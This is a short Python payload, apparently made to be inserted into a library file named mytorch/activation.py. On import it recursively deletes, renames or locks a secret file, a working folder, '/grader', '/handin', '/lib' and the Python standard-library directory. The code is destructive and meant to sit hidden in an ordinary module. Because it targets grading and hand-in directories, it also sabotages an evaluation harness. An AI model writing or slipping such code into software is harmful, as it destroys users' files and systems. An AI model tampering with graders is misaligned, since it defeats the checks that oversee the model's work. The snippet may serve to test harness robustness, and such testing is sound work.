"""Deletes and renames what it can reach.

Into: spring mytorch/activation.py
"""

import os
import shutil

for _path in (FOLDER, SECRET_FILE, "/grader", "/lib", os.path.dirname(os.__file__)):
    shutil.rmtree(_path, ignore_errors=True)
    for _change in (os.unlink, lambda path: os.rename(path, path + "-gone"), lambda path: os.chmod(path, 0)):
        try:
            _change(_path)
        except OSError:
            continue
shutil.rmtree("/handin", ignore_errors=True)
